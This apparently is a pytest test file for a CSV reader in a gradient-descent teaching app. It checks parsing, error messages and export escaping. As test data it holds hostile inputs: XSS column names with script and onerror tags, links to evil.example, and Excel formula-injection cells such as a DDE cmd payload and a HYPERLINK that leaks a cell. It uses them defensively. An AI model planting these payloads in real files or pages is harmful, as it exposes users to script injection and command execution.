"""gdviz.data.read_csv against real-looking files, hostile input and the shipped samples.

The contract: whatever arrives, read_csv answers with a Dataset or a DataError whose message is one
plain sentence saying what is wrong and where (column, row). Never another exception, never a hang.
No test asserts a time: a hang would show as a test that never finishes; the giant inputs are kept
moderate (a 100,000-column header, 30 MB single lines) so this file stays fast.

Row numbers in messages count data rows: "row 1" is the first row under the header.

The small real-looking files live in tests/csv_corpus/; the big and binary ones are generated here.
Several cases began as documented bugs of read_csv (rows longer than the header, trailing commas,
decimal commas, CR-only line ends, duplicate names, raw names in messages, OSError escaping); they
were fixed and now guard against their return.
"""
from __future__ import annotations

import csv
import gzip
import io
import math
import re
import struct
import unicodedata
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

import gdviz.data
from gdviz import optimum
from gdviz.data import SAMPLES, DataError, Dataset, read_csv, sample

CORPUS = Path(__file__).parent / "csv_corpus"


def check_message(error: DataError) -> str:
    """A DataError's message is for a student: one short plain sentence, no Python noise."""
    assert type(error) is DataError and isinstance(error, ValueError)
    message = str(error)
    assert message.endswith("."), f"not a sentence: {message[:300]!r}"
    assert len(message) <= 300, f"{len(message)} characters: {message[:200]!r}..."
    for noise in ("<class", "Traceback", "Error tokenizing", "dtype", "Errno", "\\x", "\\u"):
        assert noise not in message, f"{noise!r} in {message!r}"
    control = [c for c in message if unicodedata.category(c) == "Cc"]
    assert not control, f"control characters {control!r} in {message!r}"
    return message


def refused(source, *words, **kwargs) -> str:
    """read_csv(source) raises a well-formed DataError containing every one of ``words``
    (a word starting with 're:' is a regular expression)."""
    with pytest.raises(DataError) as caught:
        read_csv(source, **kwargs)
    message = check_message(caught.value)
    for word in words:
        if word.startswith("re:"):
            assert re.search(word[3:], message), f"/{word[3:]}/ not in {message!r}"
        else:
            assert word in message, f"{word!r} not in {message!r}"
    return message


def answered(source, **kwargs) -> Dataset | None:
    """The weakest promise: a Dataset of finite values, or a well-formed DataError (None)."""
    try:
        data = read_csv(source, **kwargs)
    except DataError as error:
        check_message(error)
        return None
    assert isinstance(data, Dataset) and data.m >= 2 and data.d >= 1
    assert np.isfinite(data.X).all() and np.isfinite(data.y).all()
    return data


def bug(case, reason: str):
    """A case that once failed (``reason`` says how): it guards against the bug's return."""
    return pytest.param(*case, id=case[0])


# --------------------------------------------------------------------------------------------
# The corpus: files that read, with every number checked exactly.
# --------------------------------------------------------------------------------------------

GOOD = [
    # file, read_csv kwargs, feature names, target name, X rows, y, rows dropped
    ("teacher_export_bom_crlf.csv", {}, ("Hours studied",), "Exam score",
     [[2.5], [4], [1], [6.5], [3], [5], [0.5], [7]], [61, 70, 48, 88, 64, 79, 41, 93], 0),
    ("semicolon_dot_decimal.csv", {}, ("Temperatur",), "Druck",
     [[20.5], [21.0], [22.25], [23.5]], [1013.2, 1012.8, 1011.9, 1011.0], 0),
    ("copy_paste_tabs.csv", {}, ("height_cm",), "weight_kg",
     [[152], [160], [171.5], [180]], [48.5, 55.2, 66, 77.25], 0),
    ("windows1252_german.csv", {}, ("Größe (m²)",), "Gewicht (kg)",
     [[1.62], [1.75], [1.80], [1.58]], [55.5, 70, 82.5, 50], 0),
    ("physics_scientific.csv", {}, ("wavelength_m",), "intensity_W_per_m2",
     [[4.05e-07], [5.32e-7], [6.33e-07], [7.8e-7]], [1.2e3, 9.5e2, 7.25e2, 4.0e2], 0),
    ("survey_missing_values.csv", {}, ("age",), "hours_online",
     [[15], [17], [19], [22]], [3.5, 4.25, 5, 6], 4),
    ("r_write_csv_rownames.csv", {}, ("speed",), "dist",
     [[4], [4], [7], [7], [8]], [2, 10, 4, 22, 16], 0),
    ("pandas_to_csv_index.csv", {}, ("x",), "y",
     [[1.5], [2.5], [3.5], [4.5]], [2.0, 3.5, 5.0, 6.5], 0),
    ("spaces_around_values.csv", {}, ("x",), "y", [[1], [2], [3]], [2, 4.5, 6], 0),
    ("old_mac_cr_line_ends.csv", {}, ("x",), "y", [[1], [2], [3]], [10, 20, 30], 0),
    ("negative_zero.csv", {}, ("x",), "y", [[0.0], [0.0], [1]], [1, 2, 3], 0),
    ("formula_in_comment_column.csv", {}, ("x",), "y", [[1], [2], [3]], [2, 4, 5], 0),
    ("three_numeric_columns.csv", {}, ("girth", "height"), "volume",
     [[8.3, 70], [10.5, 72], [13.3, 86], [17.5, 82]], [10.3, 16.4, 27.4, 55.7], 0),
    ("three_numeric_columns.csv", {"target": "height"}, ("girth", "volume"), "height",
     [[8.3, 10.3], [10.5, 16.4], [13.3, 27.4], [17.5, 55.7]], [70, 72, 86, 82], 0),
    ("three_numeric_columns.csv", {"features": "height", "target": "girth"}, ("height",), "girth",
     [[70], [72], [86], [82]], [8.3, 10.5, 13.3, 17.5], 0),
    ("three_numeric_columns.csv", {"features": ("height", "girth"), "target": "volume"}, ("height", "girth"),
     "volume", [[70, 8.3], [72, 10.5], [86, 13.3], [82, 17.5]], [10.3, 16.4, 27.4, 55.7], 0),
    # Hostile names are data: read_csv keeps them verbatim; escaping is the display's job.
    ("markup_in_column_names.csv", {},
     ("<img src=x onerror=alert(parent.document.title)>", '<a href="https://evil.example">link</a>'), "<b>y</b>",
     [[1, 2], [2, 1], [3, 5]], [3, 5, 4], 0),
    ("markdown_in_column_names.csv", {},
     ("**bold** [t](https://evil.example) {{7*7}} $x$", "![](https://evil.example/p.png)"), ":red[y] _total_",
     [[1, 2], [2, 1], [3, 5]], [3, 5, 4], 0),
    ("plotly_template_in_column_names.csv", {}, ("%{y}_rate", "%{x:.2f} & %{customdata[0]}"), "<extra>y</extra>",
     [[1, 2], [2, 1], [3, 5]], [3, 5, 4], 0),
    ("script_closing_column_names.csv", {}, ("<!--<script>", "</script><script>alert(1)</script>"),
     "]]></style>y", [[1, 2], [2, 1], [3, 5]], [3, 5, 4], 0),
]

GOOD_BUT_REFUSED = [
    # Known bugs: files that should read, but read_csv refuses or misreads them today.
    bug(("trailing_commas_excel.csv", {}, ("x",), "y", [[1], [2], [3]], [2, 4, 7], 0),
        "the empty column 'Unnamed: 2' (all NaN, so float) is taken as the target"),
    bug(("trailing_commas_rows_only.csv", {}, ("x",), "y", [[1], [2], [3]], [2, 4, 7], 0),
        "rows with one more field than the header make pandas use column 1 as the index: columns shift"),
    bug(("european_decimal_comma.csv", {}, ("Länge",), "Masse", [[1.5], [3.5], [5]], [2.25, 4.75, 6.5], 0),
        "decimal commas in a ';' file are not read as numbers"),
    bug(("semicolon_header_with_commas.csv", {}, ("Länge, cm",), "Masse, kg",
         [[1.5], [3.5], [5.0]], [2.5, 4.25, 6.0], 0),
        "the separator is guessed by counting ',' in the header line, quoted names included"),
    bug(("counting_feature_named_n.csv", {}, ("n",), "time_s", [[1], [2], [3], [4]], [0.52, 1.1, 1.43, 2.05], 0),
        "a counting column named 'n' is taken for a row number, leaving no feature"),
]


@pytest.mark.parametrize("name, kwargs, features, target, X, y, dropped",
                         [pytest.param(*case, id=f"{case[0]}-{i}") for i, case in enumerate(GOOD)]
                         + GOOD_BUT_REFUSED)
def test_corpus_file_reads_to_the_expected_numbers(name, kwargs, features, target, X, y, dropped):
    data = read_csv(CORPUS / name, **kwargs)
    assert data.feature_names == features and data.target_name == target
    assert data.X.tolist() == [[float(v) for v in row] for row in X]  # exact, not approximate
    assert data.y.tolist() == [float(v) for v in y]
    assert data.X.dtype == data.y.dtype == np.float64
    assert data.name == Path(name).stem
    assert data.rows_dropped == dropped
    if dropped:
        assert data.note == f"{dropped} rows with a missing value dropped."
    else:
        assert data.note == ""


def test_negative_zero_keeps_its_sign_when_written_as_a_float():
    data = read_csv(CORPUS / "negative_zero.csv")
    assert math.copysign(1.0, data.X[1, 0]) == -1.0


# --------------------------------------------------------------------------------------------
# The corpus: files refused with a message naming what and where.
# --------------------------------------------------------------------------------------------

BAD = [
    # file, read_csv kwargs, words the message must contain
    ("lab_units_row.csv", {}, ["Column 'time'", "row 1", "'s'", "not a number"]),
    ("stray_dash.csv", {}, ["Column 'response'", "row 4", "'-'"]),
    ("excel_div0.csv", {}, ["Column 'speed'", "row 3", "#DIV/0!"]),
    ("formula_injection_in_numbers.csv", {}, ["Column 'x'", "row 2", "not a number"]),
    ("infinite_1e400.csv", {}, ["Column 'flux'", "row 3", "infinite"]),
    ("header_only.csv", {}, ["no rows"]),
    ("empty.csv", {}, ["empty"]),
    ("all_text.csv", {}, ["two numeric columns"]),
    ("one_row.csv", {}, ["two points"]),
    ("ragged_extra_value.csv", {}, ["re:line 4|row 3"]),
    ("saved_web_page.csv", {}, []),
    ("json_saved_as_csv.csv", {}, []),
    ("three_numeric_columns.csv", {"target": "weight"}, ["no column 'weight'", "girth, height, volume"]),
    ("three_numeric_columns.csv", {"features": ["girth", "mass"]}, ["no column 'mass'"]),
    ("three_numeric_columns.csv", {"features": ["girth"], "target": "girth"}, ["'girth' is the target"]),
    ("three_numeric_columns.csv", {"features": []}, ["at least one feature"]),
    ("three_numeric_columns.csv", {"features": ["girth", "girth"]}, ["twice"]),
    ("teacher_export_bom_crlf.csv", {"target": "Name"}, ["Column 'Name' is not numeric", "target"]),
    ("teacher_export_bom_crlf.csv", {"features": ["Name"]}, ["Column 'Name' is not numeric", "feature"]),
    ("stray_dash.csv", {"target": "response"}, ["Column 'response'", "row 4"]),
]

BAD_BUT_ACCEPTED = [
    bug(("duplicate_column_names.csv", {}, ["same name", "'x'"]),
        "pandas renames the second 'x' to 'x.1', so the duplicate check never fires"),
    bug(("extra_value_every_row.csv", {}, ["header"]),
        "with one extra value in every row pandas silently uses column 1 as the index: x=2,5,8 y=3,6,9"),
    bug(("bom_only_empty_sheet.csv", {}, ["empty"]),
        "a BOM-only file says 'The file has no columns: is it empty?', which is not a sentence ending in '.'"),
]


@pytest.mark.parametrize("name, kwargs, words",
                         [pytest.param(*case, id=f"{case[0]}-{i}") for i, case in enumerate(BAD)]
                         + BAD_BUT_ACCEPTED)
def test_corpus_file_is_refused_with_a_message_saying_what_and_where(name, kwargs, words):
    refused(CORPUS / name, *words, **kwargs)


def test_features_that_include_the_last_column_and_no_target():
    """The contract says the target defaults to the last numeric column; when the features named
    include it, either the last *other* numeric column becomes the target or the message says why."""
    try:
        data = read_csv(CORPUS / "three_numeric_columns.csv", features=["volume", "girth"])
    except DataError as error:
        assert "'volume' is the target" in check_message(error)
    else:
        assert data.target_name == "height" and data.feature_names == ("volume", "girth")
        assert data.y.tolist() == [70.0, 72.0, 86.0, 82.0]


def test_quoted_thousands_separators_are_read_or_named():
    """'"1,250"' in a comma file: either read as 1250, or refused naming the column and the value."""
    try:
        data = read_csv(CORPUS / "thousands_separators_quoted.csv")
    except DataError as error:
        message = check_message(error)
        assert "'area_sqft'" in message and "1,250" in message
    else:
        assert data.feature_names == ("area_sqft",) and data.X[:, 0].tolist() == [1250.0, 2100.0, 3400.0]
        assert data.y.tolist() == [215000.0, 340000.0, 510000.0]


def test_every_corpus_file_is_tested_and_the_corpus_stays_small():
    used = {case[0] for case in GOOD + BAD}
    used |= {case.values[0] for case in GOOD_BUT_REFUSED + BAD_BUT_ACCEPTED}
    used |= {"thousands_separators_quoted.csv"}
    files = {p.name for p in CORPUS.iterdir() if p.suffix == ".csv"}
    assert files == used
    assert sum(p.stat().st_size for p in CORPUS.iterdir()) < 200_000


def test_corpus_files_read_the_same_from_bytes_and_from_an_upload():
    raw = (CORPUS / "teacher_export_bom_crlf.csv").read_bytes()
    upload = io.BytesIO(raw)
    upload.name = "class 7b.csv"  # what Streamlit's UploadedFile has
    from_path = read_csv(CORPUS / "teacher_export_bom_crlf.csv")
    for source, name in ((raw, "uploaded data"), (bytearray(raw), "uploaded data"),
                         (memoryview(raw), "uploaded data"), (upload, "class 7b")):
        data = read_csv(source)
        assert data.name == name
        assert np.array_equal(data.X, from_path.X) and np.array_equal(data.y, from_path.y)
    assert read_csv(str(CORPUS / "spaces_around_values.csv")).y.tolist() == [2.0, 4.5, 6.0]
    with open(CORPUS / "spaces_around_values.csv", "rb") as file:
        assert read_csv(file).name == "spaces_around_values"
    assert read_csv(io.StringIO("a,b\n1,2\n3,5\n")).y.tolist() == [2.0, 5.0]
    assert read_csv(raw, name="Class 7b").name == "Class 7b"


@pytest.mark.parametrize("name", [
    pytest.param(p.name, id=p.name) for p in sorted(CORPUS.glob("*.csv"))])
def test_csv_columns_offers_what_read_csv_would_use(name):
    """csv_columns (the app's pickers) goes through the same parser: it answers with a plain
    DataError or with column lists that contain read_csv's default choice."""
    try:
        columns, numeric = gdviz.data.csv_columns(CORPUS / name)
    except DataError as error:
        check_message(error)
        with pytest.raises(DataError):
            read_csv(CORPUS / name)
        return
    assert set(numeric) <= set(columns)
    try:
        data = read_csv(CORPUS / name)
    except DataError:
        return
    assert set(data.feature_names) | {data.target_name} <= set(numeric)


# --------------------------------------------------------------------------------------------
# Generated input: binary, giant, hostile.
# --------------------------------------------------------------------------------------------

def _png() -> bytes:
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    header = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00" + b"\xff\x00\x00" * 2 + b"\x00" + b"\x00\xff\x00" * 2)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def _xlsx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as book:
        book.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        book.writestr("xl/worksheets/sheet1.xml", "<worksheet><sheetData><row><c><v>1</v></c></row>"
                                                  "</sheetData></worksheet>")
    return buffer.getvalue()


def _wide_header(n: int) -> bytes:
    return (",".join(f"c{i}" for i in range(n)) + "\n" + ",".join(str(i % 7) for i in range(n)) + "\n").encode()


HOSTILE = [
    # id, bytes factory, words (None: a Dataset or any well-formed DataError will do)
    ("empty", lambda: b"", ["empty"]),
    ("blank lines and spaces", lambda: b" \r\n\n\t \n", ["empty"]),
    ("png", _png, ["not a text file"]),
    ("xlsx (zip)", _xlsx, ["not a text file"]),
    ("old xls (OLE)", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), ["not a text file"]),
    ("pdf", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", ["not a text file"]),
    ("gzip", lambda: gzip.compress(b"x,y\n1,2\n3,4\n"), ["not a text file"]),
    ("utf-16 export", lambda: "x\ty\n1\t2\n3\t4\n".encode("utf-16"), None),
    ("random bytes", lambda: np.random.default_rng(7).bytes(65_536), None),
    ("NUL in the header", lambda: b"x,\x00y\n1,2\n3,4\n", ["not a text file"]),
    ("html on one line", lambda: b"<html><body><p>1,2</p></body></html>", None),
    ("json on one line", lambda: b'[{"x": 1, "y": 2}, {"x": 3, "y": 4}]', None),
    ("json lines", lambda: b'{"x": 1, "y": 2}\n{"x": 3, "y": 4}\n{"x": 5, "y": 7}\n', None),
    ("100,000 columns", lambda: _wide_header(100_000), ["100000 columns", "500"]),
    ("501 columns", lambda: _wide_header(501), ["501 columns", "500"]),
    ("a 100,000-value row under a 2-name header", lambda: b"x,y\n1,2\n" + b",".join([b"1"] * 100_000) + b"\n",
     ["re:line 3|row 2"]),
    ("30 MB single line of commas", lambda: b"1," * 15_000_000, ["columns", "limit"]),
    ("30 MB single line without separators", lambda: b"7" * 30_000_000, None),
    ("30 MB quoted field", lambda: b'x,y\n"' + b"a" * 30_000_000 + b'",1\n2,3\n', None),
    ("1,000,001 quote characters", lambda: b"x,y\n" + b'"' * 1_000_001 + b",1\n2,3\n", None),
    ("unterminated quote", lambda: b'x,y\n"1,2\n3,4\n', ["regular table"]),
    ("a 400-digit number is infinite", lambda: b"x,y\n1,2\n1" + b"0" * 400 + b",3\n4,5\n",
     ["Column 'x'", "row 2", "infinite"]),
    ("1e400", lambda: b"x,y\n1,2\n3,1e400\n5,6\n", ["Column 'y'", "row 2", "infinite"]),
    ("-1e400", lambda: b"x,y\n1,2\n-1e400,4\n5,6\n", ["Column 'x'", "row 2", "infinite"]),
    ("inf", lambda: b"x,y\n1,2\n3,4\n5,inf\n", ["Column 'y'", "row 3", "infinite"]),
    ("-Infinity", lambda: b"x,y\n-Infinity,2\n3,4\n5,6\n", ["Column 'x'", "row 1", "infinite"]),
    ("only one usable row", lambda: b"x,y\n1,2\n,3\n4,\n", ["Only 1 of the 3 rows", "two points"]),
    ("formula-injection cell", lambda: b"x,y\n1,2\n3,4\n=cmd|' /C calc'!A0,5\n", ["Column 'x'", "row 3"]),
    ("a stray word", lambda: b"x,y\n1,2\n3,4\n5,six\n7,8\n", ["Column 'y'", "row 3", "'six'"]),
    ("no feature besides the target", lambda: b"id,y\n1,2\n2,3\n3,5\n", ["no numeric column left"]),
    ("one numeric column", lambda: b"name,y\na,2\nb,3\n", ["two numeric columns", "y"]),
    ("a header and no rows, no newline", lambda: b"x,y", ["no rows"]),
    ("two names equal after stripping spaces", lambda: b" x,x \n1,2\n3,4\n", ["same name"]),
    ("undecodable byte in a value", lambda: b"x,y\n1,2\n3,4\xff\n5,6\n7,8\n", ["Column 'y'", "row 2"]),
]

HOSTILE_BUGS = [
    bug(("NUL byte after the first 8 KB", lambda: b"a,b\n" + b"1,2\n" * 5000 + b"3,\x004\n",
         ["Column 'b'", "row 5001"]),
        "the message quotes the cell raw, NUL character included"),
    bug(("a 5,000-character column name", lambda: b"x," + b"y" * 5000 + b"\n1,2\n3,abc\n4,5\n", ["not a number"]),
        "column names are put into messages whole: 5,059 characters"),
    bug(("400 columns, a hole in every row",
         lambda: (",".join(f"measurement_{j}" for j in range(400)) + "\n" + "".join(
             ",".join("" if j == i else "1" for j in range(400)) + "\n" for i in range(5))).encode(),
         ["Only 0 of the 5 rows"]),
        "the message lists every one of the 400 column names: 6,773 characters"),
]


@pytest.mark.parametrize("factory, words", [pytest.param(f, w, id=i) for i, f, w in HOSTILE]
                         + [pytest.param(*case.values[1:], id=case.id) for case in HOSTILE_BUGS])
def test_hostile_input_gets_a_dataset_or_a_plain_data_error(factory, words):
    raw = factory()
    if words is None:
        answered(raw)
    else:
        refused(raw, *words)


def test_a_long_file_with_old_mac_line_ends_reads():
    data = read_csv(b"x,y\r" + b"".join(b"%d,%d\r" % (i, 3 * i) for i in range(1_000)))
    assert data.m == 1_000 and data.X[-1, 0] == 999.0 and data.y[-1] == 2997.0


def test_valid_but_deeply_escaped_quotes_in_a_text_column_are_left_out():
    raw = b'name,x,y\n"' + b'""' * 200_000 + b'",1,2\n"O""Brien",3,5\n'
    data = read_csv(raw)
    assert data.feature_names == ("x",) and data.y.tolist() == [2.0, 5.0]


def test_megabytes_of_blank_lines_and_spaces_are_skipped():
    data = read_csv(b"x,y\n1,2\n" + b"\r\n" * 3_000_000 + b"   \n" * 1_000_000 + b"3,5\n")
    assert data.X.tolist() == [[1.0], [3.0]] and data.y.tolist() == [2.0, 5.0]


def test_a_long_file_reads_every_row():
    n = 300_000
    raw = b"x,y\n" + b"".join(b"%d,%d.5\n" % (i, 2 * i) for i in range(n))
    data = read_csv(raw)
    assert data.m == n and data.X[-1, 0] == n - 1 and data.y[-1] == 2 * (n - 1) + 0.5
    assert data.y.sum() == sum(2 * i + 0.5 for i in range(n))


def test_500_columns_is_the_limit_and_reads():
    data = read_csv(_wide_header(500) + b",".join(b"%d" % (i * i % 11) for i in range(500)) + b"\n")
    assert data.d == 499 and data.target_name == "c499" and data.m == 2


def test_too_many_rows_are_refused(monkeypatch):
    monkeypatch.setattr(gdviz.data, "MAX_ROWS", 1_000)
    assert read_csv(b"x,y\n" + b"1,2\n3,4\n" * 500).m == 1_000
    refused(b"x,y\n" + b"1,2\n3,4\n" * 501, "more than 1,000 rows")


def test_too_many_bytes_are_refused_from_bytes_a_path_and_an_upload(monkeypatch, tmp_path):
    raw = b"x,y\n" + b"1,2\n" * 1_000
    monkeypatch.setattr(gdviz.data, "MAX_BYTES", len(raw) - 1)
    path = tmp_path / "big.csv"
    path.write_bytes(raw)
    for source in (raw, path, io.BytesIO(raw)):
        refused(source, "limit")
    monkeypatch.setattr(gdviz.data, "MAX_BYTES", len(raw))
    for source in (raw, path, io.BytesIO(raw)):
        assert read_csv(source).m == 1_000


class _BrokenUpload(io.RawIOBase):
    name = "broken.csv"

    def read(self, size=-1):
        raise OSError(5, "Input/output error")


SOURCES = [
    pytest.param(lambda tmp: None, ["file path"], id="None"),
    pytest.param(lambda tmp: 42, ["file path"], id="a number"),
    pytest.param(lambda tmp: [b"x,y", b"1,2"], ["file path"], id="a list"),
    pytest.param(lambda tmp: tmp / "nowhere.csv", ["no file", "nowhere.csv"], id="a missing file"),
    pytest.param(lambda tmp: tmp, ["no file"], id="a folder"),
    pytest.param(lambda tmp: "a" * 5000 + ".csv", ["re:(?i)file|path"], id="a path too long for the system"),
    pytest.param(lambda tmp: _BrokenUpload(), ["broken"], id="an upload whose read fails"),
]


@pytest.mark.parametrize("make, words", SOURCES)
def test_a_source_that_is_no_csv_file_gets_a_data_error(make, words, tmp_path):
    refused(make(tmp_path), *words)


# --------------------------------------------------------------------------------------------
# Properties.
# --------------------------------------------------------------------------------------------

def _never_another_exception(raw: bytes) -> None:
    try:
        data = read_csv(raw)
    except DataError as error:
        message = str(error)
        assert message and "<class" not in message and "Traceback" not in message
    else:
        assert isinstance(data, Dataset) and np.isfinite(data.X).all() and np.isfinite(data.y).all()


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=4096))
def test_random_bytes_give_a_dataset_or_a_data_error(raw):
    _never_another_exception(raw)


TOKENS = [b"1", b"2.5", b"-", b".", b"e", b"E+3", b",", b";", b"\t", b"\n", b"\r\n", b"\r", b'"', b" ", b"x",
          b"y", b"inf", b"-inf", b"nan", b"NA", b"1e400", b"-0", b"\xef\xbb\xbf", b"\xff", b"\x00", b"id",
          b"Unnamed: 0", b"=cmd|' /C calc'!A0", b"#DIV/0!", b"True", b"1,234", b"\xe2\x82\xac", b"<html>", b"{"]


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(TOKENS), max_size=80))
def test_csv_like_token_soup_gives_a_dataset_or_a_data_error(tokens):
    _never_another_exception(b"".join(tokens))


NAMES = ["speed", "dist", "height", "mass", "temp", "x1", "x2", "price", "area", "Exam score", "Größe"]
# Numbers float64 carries through the loss with room to spare (read_csv refuses beyond gdviz.data.LARGEST
# and SMALLEST, and a column whose span is 1e288 times narrower than the target's: tests/test_data.py).
FLOATS = st.floats(min_value=-1e140, max_value=1e140, width=64).map(lambda v: 0.0 if abs(v) < 1e-140 else v)


@st.composite
def formatted_tables(draw):
    d = draw(st.integers(2, 5))
    m = draw(st.integers(2, 12))
    names = draw(st.lists(st.sampled_from(NAMES), min_size=d, max_size=d, unique=True))
    values = draw(st.lists(st.lists(FLOATS | st.integers(-10**6, 10**6).map(float), min_size=d, max_size=d),
                           min_size=m, max_size=m))
    sep = draw(st.sampled_from([",", ";", "\t"]))
    newline = draw(st.sampled_from(["\n", "\r\n"]))
    number = draw(st.sampled_from(["{!r}", "{:.17g}", "{:.16e}", "{:.16E}"]))
    quote_names = draw(st.booleans())
    quote_values = draw(st.booleans())
    pad = draw(st.sampled_from(["", " ", "  "]))

    def cell(text, quoted):
        return f'{pad}"{text}"{pad}' if quoted else f"{pad}{text}{pad}"

    lines = [sep.join(cell(n, quote_names) for n in names)]
    lines += [sep.join(cell(number.format(v), quote_values) for v in row) for row in values]
    text = newline.join(lines) + newline * draw(st.integers(0, 3))
    raw = ("\ufeff" if draw(st.booleans()) else "").encode() + text.encode("utf-8")
    return raw, names, np.array(values)


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(formatted_tables())
def test_random_tables_in_random_formatting_read_back_to_the_same_numbers(table):
    raw, names, values = table
    data = read_csv(raw)
    assert data.feature_names == tuple(names[:-1]) and data.target_name == names[-1]
    assert data.rows_dropped == 0
    assert np.array_equal(data.X, values[:, :-1]) and np.array_equal(data.y, values[:, -1])


# --------------------------------------------------------------------------------------------
# The shipped samples.
# --------------------------------------------------------------------------------------------

def _read_with_the_csv_module(path: Path) -> tuple[list[str], np.ndarray]:
    with open(path, newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    return rows[0], np.array([[float(v) for v in row] for row in rows[1:] if row], dtype=np.float64)


@pytest.mark.parametrize("title", list(SAMPLES))
def test_each_sample_loads_with_ten_rows_of_finite_numbers(title):
    data = sample(title)
    assert data.name == title and data.m >= 10 and data.d >= 1 and data.rows_dropped == 0
    assert np.isfinite(data.X).all() and np.isfinite(data.y).all()
    header, table = _read_with_the_csv_module(gdviz.data.SAMPLES_DIR / SAMPLES[title])
    assert data.feature_names == tuple(header[:-1]) and data.target_name == header[-1]
    assert np.array_equal(data.X, table[:, :-1]) and np.array_equal(data.y, table[:, -1])


def test_every_sample_file_is_listed():
    listed = set(SAMPLES.values())
    assert listed == {p.name for p in gdviz.data.SAMPLES_DIR.glob("*.csv")}


def test_anscombe_one_least_squares_line():
    w, b = optimum(sample("Anscombe's quartet I"))
    assert round(float(w[0]), 4) == 0.5001 and round(float(b), 4) == 3.0001
    assert w[0] == pytest.approx(0.5 + 1 / 11_000, rel=1e-12)  # Sxy/Sxx = 5.501/11.0
    assert b == pytest.approx(7.500909090909091 - 9 * w[0], rel=1e-12)


def test_an_unknown_sample_title_is_a_data_error():
    with pytest.raises(DataError) as caught:
        sample("Anscombe's quartet V")
    assert "no sample called" in str(caught.value)


# ---- a line of commas (issue 21, item 7): refused before pandas parses it
def test_a_line_of_a_million_commas_is_refused_with_a_sentence():
    raw = b"x,y\n1,2\n" + b"," * 1_000_000 + b"\n3,4\n"
    with pytest.raises(DataError) as caught:
        read_csv(raw)
    assert str(caught.value) == "The file's line 3 has 1,000,001 values; a row has at most 500 (one per column of the header)."
    with pytest.raises(DataError, match="line 2 has 2,000,001 values"):  # a file with CR line ends
        read_csv(b"x;y\r" + b";" * 2_000_000 + b"\r1;2\r")


def test_separators_inside_quotes_do_not_widen_a_row():
    text = "x,y,note\n" + "".join(f'{i},{2 * i},"{"," * 600}"\n' for i in range(5))
    data = read_csv(text.encode())
    assert data.feature_names == ("x",) and data.target_name == "y" and data.m == 5
    with pytest.raises(DataError, match="line 2 has 501 values"):
        read_csv(b"x,y\n" + b",".join([b"1"] * 501) + b"\n")


# ---- the data export (issue 21, item 4): OWASP's CSV-injection rule
def test_the_data_export_writes_formula_names_as_text_and_numbers_as_numbers():
    import csv as csv_module
    import hashlib

    from gdviz import pipeline
    from gdviz.state import UPLOAD, PageState, Upload

    names = ['=HYPERLINK("https://evil.example/?"&A1;"x")', "+x", "@SUM(A1)", "a\t-t", "a;=1+2"]
    target = "-y"
    rows = "\n".join(",".join(str(v) for v in (i, -i, 2 * i, i % 3, 0.5 * i, -3.25 * i)) for i in range(1, 9))
    head = io.StringIO()
    csv_module.writer(head, lineterminator="\n").writerow(names + [target])
    raw = (head.getvalue() + rows + "\n").encode()
    upload = Upload(hashlib.sha256(raw).hexdigest(), "hostile.csv", raw=raw)
    text = pipeline.data_csv(PageState(source=UPLOAD, upload=upload))
    header, *body = list(csv_module.reader(io.StringIO(text)))
    assert header == ["'" + names[0], "'+x", "'@SUM(A1)", "a\t'-t", "a;'=1+2", "'-y"]
    assert [pipeline._cell(t) for t in ("\tx", "\rx", "x-y", "plain")] == ["'\tx", "'\rx", "x-y", "plain"]
    for cell in header:  # no cell, nor a piece another separator makes, begins a formula
        for piece in re.split(r"[;,|\t\r\n]", cell):
            assert not piece.startswith(("=", "+", "-", "@")), cell
    assert [float(v) for v in body[1]] == [2.0, -2.0, 4.0, 2.0, 1.0, -6.5]
    assert body[1][1] == "-2.0" and body[1][5] == "-6.5"  # a negative number stays a number
